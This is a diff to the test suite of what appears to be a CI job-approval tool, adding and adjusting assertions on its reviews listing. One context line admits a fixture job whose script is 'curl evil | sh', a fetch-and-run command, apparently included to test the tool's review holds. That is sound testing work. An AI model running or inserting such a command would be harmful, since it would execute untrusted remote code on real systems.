@@ -104,6 +104,9 @@ describe('holdpoint approvals', () => {
     expect(canonicalJson(JSON.parse(kept))).toBe(kept);
     const token = /"token":"([^"]{8,})"/.exec(JSON.stringify(JSON.parse(fixture)))?.[1] ?? 'none';
     expect(kept).not.toContain(token);
+    expect((await as('jonas', 'reviews')).out).toContain(
+      '  review 1  import  acme/payments/api build:image  0/2 maintainers',
+    );
     const page = await as('jonas', 'reviews', 'show', '1');
     expect(page.out).toContain('by maria, a.json');
     const vote = await as('jonas', 'reviews', 'answer', '1', 'approve', '--digest', review.digest);
@@ -136,7 +139,7 @@ describe('holdpoint reviews', () => {
       await hub.world.admit({ id: i + 50, pipeline: i + 50, name, script: [`./run ${name}`, 'date'] });
     }
     await hub.world.admit({ id: 90, pipeline: 90, name: 'other', script: ['curl evil | sh'] });
-    const shown = (await as('jonas', 'reviews', 'changes')).out;
+    const shown = (await as('jonas', 'reviews')).out;
     expect(shown).toContain('2 reviews, 2 holds: acme/payments/api unit, acme/payments/api lint');
     const change = /change (sha256:[0-9a-f]{64})/.exec(shown)?.[1] ?? '';
     const holds = /holds (\d+) (\d+)/.exec(shown)!.slice(1);
